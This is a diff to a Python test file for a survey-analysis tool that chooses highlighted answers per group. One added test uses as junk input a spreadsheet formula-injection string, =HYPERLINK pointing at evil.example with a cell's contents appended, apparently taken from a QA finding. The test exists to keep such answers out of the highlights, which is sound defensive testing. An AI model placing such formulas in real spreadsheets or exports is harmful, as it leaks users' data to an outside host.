@@ -100,9 +100,8 @@ def test_highlights_skip_contact_details() -> None:
         rows.append((f"A{i}", OTHER, "toimialajohto", "08", CONTACT[0], "works"))
         rows.append((f"A{i}", DEVELOP, "toimialajohto", "08", SAYS_SOMETHING[2], "works"))
     tagged = _frame(rows)
-    tagged["areas"] = [
-        ["perhekeskus", "oppilashuolto"] if t == CONTACT[0] else [] for t in tagged["text"]
-    ]
+    codes = {CONTACT[0]: ["perhekeskus", "oppilashuolto"], SAYS_SOMETHING[2]: ["oppilashuolto"]}
+    tagged["areas"] = [codes.get(t, []) for t in tagged["text"]]
     model = build_model(tagged, None, None, None, "t", None, False, questions=False)
     ((_, picks, _),) = model.highlights
     assert [p["text"] for p in picks] == [SAYS_SOMETHING[2]]
@@ -305,3 +304,19 @@ def test_an_answer_listed_without_group_and_county_shows_no_subgroup_either() ->
     assert set(safe.loc[hidden, "coarse_group"]) == {"(piilotettu)"}
     assert set(safe.loc[hidden, "group"]) == {"(piilotettu)"}
     assert set(safe.loc[~hidden, "coarse_group"]) == {"toimialajohto"}
+
+
+def test_an_uncoded_answer_is_no_highlight() -> None:
+    # QA 5: '=HYPERLINK(…)' (works: an answer to a what-works question) was a group's only pick
+    junk = ['=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")', "asdf qwerty"]
+    rows = [(f"A{i}", OTHER, "toimialajohto", "08", junk[i % 2], "works") for i in range(6)]
+    rows += [(f"B{i}", OTHER, "toimialajohto", "08", SAYS_SOMETHING[2], "works") for i in range(2)]
+    tagged = _frame(rows)
+    tagged["areas"] = [["oppilashuolto"] if t == SAYS_SOMETHING[2] else [] for t in tagged["text"]]
+    model = build_model(tagged, None, None, None, "t", None, False, questions=False)
+    ((_, picks, _),) = model.highlights
+    assert [p["text"] for p in picks] == [SAYS_SOMETHING[2]]
+    tagged["areas"] = [[] for _ in range(len(tagged))]  # nothing coded: no pick, and a note
+    model = build_model(tagged, None, None, None, "t", None, False, questions=False)
+    ((_, picks, note),) = model.highlights
+    assert picks == [] and "koodattuja" in note
